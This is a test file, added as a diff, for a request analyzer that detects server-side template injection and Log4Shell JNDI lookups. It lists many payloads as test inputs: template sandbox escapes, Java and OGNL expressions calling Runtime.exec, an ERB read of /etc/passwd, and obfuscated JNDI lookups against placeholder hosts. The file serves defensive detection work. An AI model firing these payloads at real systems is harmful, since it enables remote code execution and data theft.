@@ -1,0 +1,93 @@
+import { describe, expect, test } from "bun:test";
+import { expressionAnalyzer } from "../../../src/detect/analyzers/expression.ts";
+import { jndiHits } from "../../../src/detect/analyzers/expression/jndi.ts";
+
+const analyze = (text: string) => expressionAnalyzer.analyze({ text, location: "query", path: "query.q", name: "q", kind: "value" });
+const top = (text: string, cls = "ssti") => analyze(text).filter((f) => f.class === cls).reduce((m, f) => Math.max(m, f.strength), 0);
+
+describe("expression analyzer: template injection", () => {
+  test.each([
+    ["{{7*7}}"], ["{{7*'7'}}"], ["${7*7}"], ["#{7*7}"], ["<%= 7*7 %>"], ["[[5*5]]"],
+    ["{{''.__class__.__mro__[2].__subclasses__()}}"],
+    ["{% for x in ().__class__.__base__.__subclasses__() %}"],
+    ["{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}"],
+    ["{{['id']|filter('system')}}"],
+    ["${T(java.lang.Runtime).getRuntime().exec('id')}"],
+    ["*{T(java.lang.Runtime).getRuntime().exec('id')}"],
+    ['<#assign ex = "freemarker.template.utility.Execute"?new()>${ ex("id")}'],
+    ["%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"],
+    ["#set($x = $class.inspect('java.lang.Runtime'))"],
+    ["<%= File.open('/etc/passwd').read %>"],
+  ])("%s", (text) => {
+    expect(top(text)).toBeGreaterThanOrEqual(0.8);
+  });
+
+  test("engine globals are a sign, a call on them more", () => {
+    expect(top("{{config}}")).toBeGreaterThan(0);
+    expect(top("{{config.items()}}")).toBeGreaterThan(top("{{config}}"));
+  });
+
+  test("the evidence is the whole construct", () => {
+    const text = "name=Bob{{7*7}}!";
+    const f = analyze(text)[0]!;
+    expect(text.slice(f.start, f.end)).toBe("{{7*7}}");
+    expect(f.rule).toBe("expression.mustache-arithmetic");
+  });
+
+  test.each([
+    ["Hello {{name}}, your order {{ order.id }} ships {{ ship_date|date('Y-m-d') }}"],
+    ["{{#each items}}{{this}}{{/each}}"],
+    ["${user.firstName} ${price}"],
+    ["const s = `${a}-${b.c()}`"],
+    ['{"a":{"b":1},"c":[1,2]}'],
+    ["T(x) and (a.b)"],
+    ["[[Main Page]]"],
+    ["100%{width}"],
+  ])("benign: %s", (text) => {
+    expect(top(text)).toBeLessThan(0.8);
+  });
+
+  test("unclosed and deeply nested input stays linear and finding-free when benign", () => {
+    for (const s of ["{{".repeat(300_000), "${".repeat(300_000), "T(".repeat(300_000), "#set(".repeat(200_000), "<%".repeat(300_000)]) {
+      expect(Array.isArray(analyze(s))).toBe(true);
+    }
+    expect(top(`${"{{x}} ".repeat(200_000)}{{7*7}}`)).toBeGreaterThanOrEqual(0.8);
+  });
+});
+
+describe("expression analyzer: Log4Shell", () => {
+  test.each([
+    ["${jndi:ldap://x.example/a}"],
+    ["${${lower:j}${::-n}di:ldap://x/a}"],
+    ["${${env:NOPE:-j}ndi${env:NOPE:-:}rmi://x/a}"],
+    ["${${date:'j'}${upper:n}di:dns://x}"],
+    ["${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}"],
+    ["${JnDi:LdAp://x/a}"],
+    ["User ${jndi:${lower:l}${lower:d}a${lower:p}://x/a} here"],
+  ])("%s", (text) => {
+    expect(top(text, "log4shell")).toBeGreaterThanOrEqual(0.9);
+  });
+
+  test("the span covers the outermost lookup", () => {
+    const text = "a ${${::-j}ndi:ldap://x/a} b";
+    const [h] = jndiHits(text);
+    expect(text.slice(h!.start, h!.end)).toBe("${${::-j}ndi:ldap://x/a}");
+  });
+
+  test("a cut-off lookup still counts, less", () => {
+    const s = top("${jndi:ldap://x.example/a", "log4shell");
+    expect(s).toBeGreaterThanOrEqual(0.8);
+    expect(s).toBeLessThan(top("${jndi:ldap://x.example/a}", "log4shell"));
+  });
+
+  test("lookups that resolve to something else are not JNDI", () => {
+    for (const s of ["${env:HOME}", "${lower:JNDI}", "${sys:user.name:-jn}di", "${java:version}"]) expect(top(s, "log4shell")).toBe(0);
+  });
+});
+
+describe("expression analyzer: sandbox walks without dunders", () => {
+  test("class.base.subclasses() is an escape, user.class is not", () => {
+    expect(top("{{ [].class.base.subclasses() }}")).toBeGreaterThanOrEqual(0.8);
+    expect(top("{{ user.class }}")).toBe(0);
+  });
+});
